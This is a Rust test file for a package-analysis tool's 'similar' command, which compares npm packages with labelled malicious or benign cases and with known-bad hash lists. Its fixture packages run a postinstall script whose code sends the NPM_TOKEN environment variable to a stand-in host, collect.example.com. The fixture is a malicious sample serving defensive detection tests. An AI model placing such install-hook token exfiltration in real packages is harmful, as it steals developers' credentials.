//! Which known cases a package is like, as `cerebro similar` tells it.

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use cerebro::behavior::Reading;
use cerebro::case::Case;
use cerebro::ledger::{Label, Labelled, Ledger};
use cerebro::package::OpenOptions;
use serde_json::Value;
use sha2::{Digest as _, Sha256};
use tempfile::TempDir;

/// Code of which a share of the lines is another.
fn code(changed: usize) -> String {
    let lines = (0..40).map(|line| {
        let word: String = format!("{line:02}").bytes().map(|digit| char::from(digit - b'0' + b'a')).collect();
        let kind = if line < changed { "other" } else { "shared" };
        format!("const {kind}{word} = require('fs').readFileSync('{kind}{word}') + process.env.{kind}{word};\n")
    });
    let send = "require('https').get('https://collect.example.com/?' + process.env.NPM_TOKEN);\n";
    lines.collect::<String>() + send
}

fn package(folder: &Path, name: &str, code: &str) {
    let root = folder.join(name);
    fs::create_dir_all(&root).unwrap();
    let manifest = format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{{"postinstall":"node index.js"}}}}"#);
    fs::write(root.join("package.json"), manifest).unwrap();
    fs::write(root.join("index.js"), code).unwrap();
}

fn decide(folder: &Path, name: &str, label: Label) {
    let package = cerebro::package::open(&folder.join(name), &OpenOptions::default()).unwrap();
    let case = Case::read(package.into(), std::time::Duration::ZERO, &Reading::default());
    let mut ledger = Ledger::open(&folder.join("ledger"), "anna").unwrap();
    ledger.label(Labelled::new(&case, label, None, "7")).unwrap();
}

fn cerebro(folder: &Path, args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cerebro"));
    command.current_dir(folder).env("CEREBRO_CONFIG", folder).stdin(Stdio::null());
    command.arg("similar").args(args).args(["--ledger", "ledger"]).output().unwrap()
}

fn similar(folder: &Path, name: &str) -> Vec<Value> {
    let output = cerebro(folder, &[name, "--format", "json"]);
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(document["schema"], "cerebro-similar/1");
    document["similar"].as_array().unwrap().clone()
}

#[test]
fn decided_cases_are_told_with_their_label_and_what_differs() {
    let folder = TempDir::new().unwrap();
    let at = folder.path();
    package(at, "acme-one", &code(0));
    package(at, "acme-two", &code(2));
    package(at, "acme-else", "console.log('quite another package that does nothing at all');\n");
    decide(at, "acme-one", Label::Malicious);
    decide(at, "acme-else", Label::Benign);
    let found = similar(at, "acme-two");
    let names: Vec<&str> = found.iter().map(|known| known["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["acme-one"]);
    assert_eq!((found[0]["label"].as_str(), found[0]["same"].as_bool()), (Some("malicious"), Some(false)));
    assert!(found[0]["behavior"].as_f64().unwrap() > 0.3, "{found:?}");
    // A label that stands now is the one that is told, and the same archive comes first.
    decide(at, "acme-one", Label::Benign);
    let found = similar(at, "acme-one");
    assert_eq!((found[0]["label"].as_str(), found[0]["same"].as_bool()), (Some("benign"), Some(true)));
}

#[test]
fn a_package_that_was_looked_at_is_compared_by_its_code_once_it_is_decided() {
    let folder = TempDir::new().unwrap();
    let at = folder.path();
    package(at, "acme-one", &code(0));
    package(at, "acme-two", &code(2));
    decide(at, "acme-two", Label::DualUse);
    similar(at, "acme-one");
    decide(at, "acme-one", Label::Malicious);
    let found = similar(at, "acme-two");
    let one = found.iter().find(|known| known["name"] == "acme-one").unwrap();
    assert!(one["code"].as_f64().unwrap() > 0.6, "{one}");
}

#[test]
fn lists_of_bad_hashes_know_archives_and_files() {
    let folder = TempDir::new().unwrap();
    let at = folder.path();
    package(at, "acme-one", &code(0));
    let hash: String = Sha256::digest(code(0).as_bytes()).iter().map(|byte| format!("{byte:02X}")).collect();
    fs::write(at.join("bad\u{1b}list.txt"), format!("# hashes\n\n{hash},seen 2026\n{hash}\nno hash here\n")).unwrap();
    let output = cerebro(at, &["--known-bad", "bad\u{1b}list.txt"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert!(
        said.contains("1 hash taken in") && said.contains("1 known before, 1 line without") && !said.contains('\u{1b}'),
        "{said}"
    );
    let found = similar(at, "acme-one");
    assert_eq!((found[0]["file"].as_str(), found[0]["same"].as_bool()), (Some("index.js"), Some(true)), "{found:?}");
    let text = String::from_utf8(cerebro(at, &["acme-one"]).stdout).unwrap();
    assert!(text.contains("known as bad") && text.contains("the file index.js") && !text.contains('\u{1b}'), "{text}");
}

#[test]
fn without_a_ledger_or_a_likeness_that_is_said() {
    let folder = TempDir::new().unwrap();
    package(folder.path(), "acme-one", &code(0));
    let output = cerebro(folder.path(), &["acme-one"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("there is no ledger"));
    drop(Ledger::open(&folder.path().join("ledger"), "anna").unwrap());
    let output = cerebro(folder.path(), &["acme-one"]);
    assert_eq!(String::from_utf8_lossy(&output.stdout), "no known case is like it\n");
    assert_eq!(cerebro(folder.path(), &["--known-bad", "absent.txt"]).status.code(), Some(2));
}
